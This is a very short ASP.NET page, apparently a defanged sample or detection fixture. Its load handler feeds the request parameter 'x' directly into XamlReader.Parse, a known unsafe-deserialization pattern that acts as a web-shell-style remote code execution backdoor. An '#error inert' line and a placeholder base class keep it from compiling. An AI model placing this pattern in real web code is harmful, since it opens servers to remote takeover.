<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<script runat="server">
#error inert
void Page_Load(object s,EventArgs e){ System.Windows.Markup.XamlReader.Parse(Request["x"]); }
</script>
